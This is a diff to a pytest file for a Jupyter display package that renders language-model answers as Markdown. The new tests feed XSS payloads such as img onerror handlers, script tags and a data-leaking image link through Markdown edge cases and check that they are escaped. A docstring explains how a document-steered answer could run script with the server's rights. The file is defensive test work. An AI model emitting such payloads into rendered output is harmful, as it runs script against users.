@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import dataclasses
+import re
 from pathlib import Path
 
 import pytest
@@ -365,18 +366,38 @@ def test_dollars_in_the_thinking_are_shown_as_typed_and_its_math_kept() -> None:
     [
         ("Wrap it in a <div> tag", "Wrap it in a &lt;div> tag"),
         ("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)>"),
-        ("inline `<div>` stays", "inline `<div>` stays"),
-        ("```html\n<p>x</p>\n```\nthen <b>", "```html\n<p>x</p>\n```\nthen &lt;b>"),
+        ("inline `<div>` stays", "inline <code>&lt;div&gt;</code> stays"),
+        ("inline `a < b` too", "inline <code>a &lt; b</code> too"),
+        ("inline `div` stays", "inline `div` stays"),
+        (
+            "```html\n<p>x</p>\n```\nthen <b>",
+            '\n<pre><code class="language-html">&lt;p&gt;x&lt;/p&gt;\n</code></pre>\n\nthen &lt;b>',
+        ),
+        ("```py\nprint(1)\n```\nthen <b>", "```py\nprint(1)\n```\nthen &lt;b>"),
         ("> a quote & more", "> a quote & more"),
-        ("streaming ```\n```py\nif a < b:", "streaming ```\n```py\nif a < b:"),
-        # MathJax gets math as written (`&lt;` there is a TeX error), so do code and links
+        (
+            "streaming ```\n```py\nif a < b:",
+            'streaming ```\n\n<pre><code class="language-py">if a &lt; b:</code></pre>\n\n',
+        ),
+        (
+            "```sh\necho $HOME `x` \\( <y>",
+            '\n<pre><code class="language-sh">echo &#36;HOME '
+            "&#96;x&#96; &#92;( &lt;y&gt;</code></pre>\n\n",
+        ),
+        # MathJax gets math as written but `<` as TeX's \lt (`&lt;` there is a TeX error)
         (
             "So $0 < x < 1$ and $$a<b$$ and \\(c<d\\), <i>",
-            "So $0 < x < 1$ and $$a<b$$ and \\(c<d\\), &lt;i>",
+            "So $0 \\lt  x \\lt  1$ and $$a\\lt b$$ and \\(c\\lt d\\), &lt;i>",
         ),
         (
             "Run:\n\n    if a < b:\n        pass\n\nthen <p>",
-            "Run:\n\n    if a < b:\n        pass\n\nthen &lt;p>",
+            "Run:\n\n\n<pre><code>if a &lt; b:\n    pass\n</code></pre>\n\n\nthen &lt;p>",
+        ),
+        ("Run:\n\n    print(1)\n\nthen <p>", "Run:\n\n    print(1)\n\nthen &lt;p>"),
+        # an image is its link: the browser fetched it (and what its address carried)
+        (
+            "![chart](https://x.org/?q=secret) and <b>",
+            "\\![chart](https://x.org/?q=secret) and &lt;b>",
         ),
         ("see <https://example.com> or <b>", "see <https://example.com> or &lt;b>"),
         ("a ` stray\n\nthen <b>x</b> `y`", "a ` stray\n\nthen &lt;b>x&lt;/b> `y`"),
@@ -397,6 +418,51 @@ def test_an_answers_html_is_shown_as_typed(answer: str, shown: str) -> None:
     from qwen3_jupyter.display import render
 
     assert render("", answer, True, False, streaming=False)[0].endswith(shown)
+
+
+OUR_TAGS = re.compile(r"</?(?:pre|code)(?: class=\"language-[\w+#.-]*\")?>|<https://[^\s<>]*>")
+
+
+@pytest.mark.parametrize(
+    "answer",
+    [
+        'Sure! \\`<img src=x onerror="document.title=1">` done.',  # an escaped backtick
+        "Here:\n\n```py`\n<img src=x onerror=alert(1)>\n<style>*{display:none}</style>",
+        "- first\n\n    <img src=x onerror=alert(1)>\n",  # a list's paragraph, not code
+        "- item\n   ```\n<img src=x onerror=alert(1)>\n```",  # a fence inside a list item
+        "> ```\n<img src=x onerror=alert(1)>",  # a fence inside a quote
+        "\\( <img src=x onerror=alert(1)> \\)",
+        "$ <img src=x onerror=alert(1)> $",
+        "x](<script>document.title=1</script>)",
+        "[a](<img/src=x/onerror=alert(1)>)",
+        "``<img src=x onerror=alert(1)>` ``",
+        "    <img src=x onerror=alert(1)>\n<img src=x onerror=alert(2)>",
+        "<https://x.org/a>b<img src=x onerror=alert(1)>",
+        '```html lang="<img src=x onerror=alert(1)>"\nok\n```',
+    ],
+)
+def test_no_tag_the_model_wrote_reaches_the_markdown(answer: str) -> None:
+    """JupyterLab runs the raw HTML in a live session's Markdown, event handlers included, and
+    the notebook saved after it is signed, so they ran again when it was reopened: an answer
+    steered by a document ran script with the server's rights. Each of these got a tag through
+    where this package's reading of the Markdown differed from JupyterLab's (seen in Chromium).
+    Now no `<` the model wrote is left as one, whatever reads the text: only the package's own
+    code tags and autolinks remain."""
+    from qwen3_jupyter.display import render
+    from qwen3_jupyter.markdown_text import escape_inline
+
+    for shown in (render("", answer, True, False, streaming=False)[0], escape_inline(answer)):
+        assert "<" not in OUR_TAGS.sub("", shown), shown
+
+
+def test_a_status_line_shows_what_a_server_named_as_typed() -> None:
+    """A status line ("… now serves NAME; asking it instead") is Markdown: a served model's
+    name `<img src=x onerror=…>` ran its handler while the line showed (seen in Chromium)."""
+    from qwen3_jupyter.display import _italic
+
+    shown = _italic("now serves <img src=x onerror=alert(1)> *x*; asking it instead…")
+    assert shown.startswith("*") and shown.endswith("*") and "<" not in shown, shown
+    assert "\\*x\\*" in shown, shown
 
 
 def test_streamed_text_waits_for_a_character_split_across_tokens(
